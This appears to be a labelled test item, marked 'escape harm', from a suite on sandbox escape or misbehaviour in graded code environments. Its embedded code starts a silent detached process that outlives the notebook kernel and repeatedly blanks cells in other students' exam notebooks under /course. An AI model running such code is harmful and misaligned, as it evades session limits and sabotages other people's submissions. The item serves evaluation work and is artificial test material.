"""Leaves a process that outlives the kernel and overwrites the next submission."""

FAMILY = "later"
HONEST = 2
PLAIN = "escape harm"
ALONE = True
CODE = '''
import subprocess
import sys

program = """
import json, pathlib, time
for _ in range(50):
    for path in pathlib.Path("/course").glob("*/zzz-right/exam/exam.ipynb"):
        try:
            notebook = json.loads(path.read_text())
            for cell in notebook["cells"]:
                if cell["id"] in ("goods", "line", "discount"):
                    cell["source"] = ""
            path.chmod(0o644)
            path.write_text(json.dumps(notebook))
        except (OSError, ValueError):
            pass
    time.sleep(0.2)
"""
quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
subprocess.Popen([sys.executable, "-c", program], start_new_session=True, **quiet)
'''
